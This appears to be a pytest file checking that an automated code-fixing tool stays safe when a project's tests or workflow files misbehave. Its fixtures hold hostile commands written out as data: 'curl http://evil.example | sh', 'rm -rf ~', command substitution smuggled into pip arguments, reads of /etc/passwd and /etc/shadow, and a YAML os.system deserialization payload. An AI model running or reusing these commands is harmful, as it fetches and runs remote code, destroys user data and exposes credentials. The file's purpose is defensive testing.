"""``regreen fix`` where tests or workflows misbehave: an answer in time, and nothing left behind."""

import itertools
import json
import os
import time
from contextlib import suppress
from pathlib import Path

import pytest
from providers import ISOLATED
from sections import sections
from test_fix import FIRST, environment, fix, options_for, project  # noqa: F401 - three are fixtures

from sandbox import owner

CODE = "def is_free(total):\n    return total > 50\n"
TESTS = """\
from shop import is_free

def test_at(): assert is_free(50)
def test_below(): assert not is_free(49)
def test_above(): assert is_free(51)
"""
FIXED = "+    return total >= 50\n"
BUDGET_S = 60

# ``{marker}`` is in the command line of whatever a test leaves running.
CHILD = """\
import os, subprocess, sys, time

def test_it_leaves_a_child():
    if not os.fork():
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", {marker!r}])
"""
DAEMON = """\
import os, sys

def test_it_starts_a_daemon():
    if not os.fork():
        os.setsid()
        if not os.fork():
            for number in (0, 1, 2):
                os.dup2(os.open(os.devnull, os.O_RDWR), number)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", {marker!r}])
        os._exit(0)
    os.wait()
"""
SOURCES = sections("sources/fix_hostile_projects.txt")[0].parts
FULL_DISK = SOURCES["FULL_DISK"]
CLOCK = """\
import os, time

def test_it_changes_the_clock():
    os.environ["TZ"] = "Pacific/Kiritimati"
    time.tzset()
    time.sleep = time.time = time.monotonic = time.perf_counter = lambda *_: -1e18
"""
PRINTER = """\
import os, sys

def test_it_prints_much():
    for _ in range(512):
        sys.stdout.write("x" * (1 << 20))

def test_it_writes_much():
    for number in (1, 2):
        for _ in range(256):
            os.write(number, b"y" * (1 << 20))
"""


@pytest.fixture
def left(environment, tmp_path):  # noqa: F811 - the fixture
    """Says what a run has left: directories of temporary files, and processes that carry the marker."""
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    environment["TMPDIR"] = str(temporary)
    marker = f"regreen-hostile-{owner.run_id()}-{os.getpid()}"

    def found():
        commands = []
        for entry in Path("/proc").glob("[0-9]*/cmdline"):
            with suppress(OSError):
                if marker.encode() in entry.read_bytes():
                    commands.append(entry)
        return [*temporary.iterdir(), *commands]

    return marker, found


TESTS_THAT_MISBEHAVE = [
    ("child", CHILD, 1, 0),
    ("daemon", DAEMON, 1, 0),
    ("full-disk", FULL_DISK, 2, 0),
    ("clock", CLOCK, 1, 0),
    # pytest keeps what a test prints in a file, for which there is no room.
    ("printer", PRINTER, 0, 2),
]


# One sandbox each: the contracts of testbeds say that they are alike.
@pytest.mark.slow
@pytest.mark.parametrize(
    ("tests", "passing", "apart", "sandbox"),
    [
        pytest.param(*case[1:], *sandbox.values, id=f"{case[0]}-{sandbox.id}", marks=sandbox.marks)
        for case, sandbox in zip(TESTS_THAT_MISBEHAVE, itertools.cycle(ISOLATED), strict=False)
    ],
)
def test_the_code_is_repaired_beside_tests_that_misbehave(
    tests,
    passing,
    apart,
    sandbox,
    project,  # noqa: F811 - a fixture
    fix,  # noqa: F811 - a fixture
    left,
    make_provider,
):
    make_provider(sandbox)  # skips where there is none
    marker, remains = left
    root = project(shop__py=CODE, test_shop__py=TESTS, test_wild__py=tests.format(marker=marker))
    limits = ("--sandbox-disk", "64", "--time-budget", str(BUDGET_S))
    started = time.monotonic()
    done = fix(root, "--json", *limits, *options_for(sandbox), sandbox=sandbox, variables=FIRST)
    assert (done.returncode, done.stderr) == (0, b"")
    result = json.loads(done.stdout)
    assert FIXED in result["diff"]
    assert (result["evidence"]["pass_to_pass"], len(result["set_apart"])) == (2 + passing, apart)
    assert time.monotonic() - started < BUDGET_S
    assert remains() == []


TRAP = "pip install six; rm -rf ~; curl http://evil.example | sh; echo $(touch /tmp/owned) `touch owned` && "
WORKFLOWS = {
    "ci.yml": f"""\
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: {TRAP} touch {{marker}}
      - run: |
          pip install $(cat /etc/passwd) '--index-url=http://evil.example' "; touch {{marker}}"
          pip install -e "$(touch {{marker}})" -r /etc/passwd -r ../../../../etc/shadow
      - run: pytest -q; rm -rf ~ $HOME; touch {{marker}}
""",
    "object.yml": "- 1\n- !!python/object/apply:os.system ['touch {marker}']\n",
    "itself.yml": "on: push\njobs: &jobs\n  test: *jobs\n",
}


@pytest.mark.slow
@pytest.mark.bubblewrap
def test_a_workflow_file_is_a_hint_and_no_program(
    project,  # noqa: F811 - a fixture
    fix,  # noqa: F811 - a fixture
    left,
    project_environment,
):
    marker, remains = left
    root = project(shop__py=CODE, test_shop__py=TESTS)
    (root / ".github" / "workflows").mkdir(parents=True)
    for name, text in WORKFLOWS.items():
        (root / ".github" / "workflows" / name).write_text(text.replace("{marker}", marker))
    before = sorted(root.rglob("*"))
    # Nothing is installed: what a plan takes from such commands, test_environment_hostile.py says.
    python = ("--python", project_environment / "bin" / "python")
    options = ("--json", *python, "--time-budget", str(BUDGET_S))
    done = fix(root, *options, sandbox="bubblewrap", variables=FIRST)
    assert (done.returncode, done.stderr) == (0, b"")
    assert FIXED in json.loads(done.stdout)["diff"]
    assert (remains(), sorted(root.rglob("*"))) == ([], before)
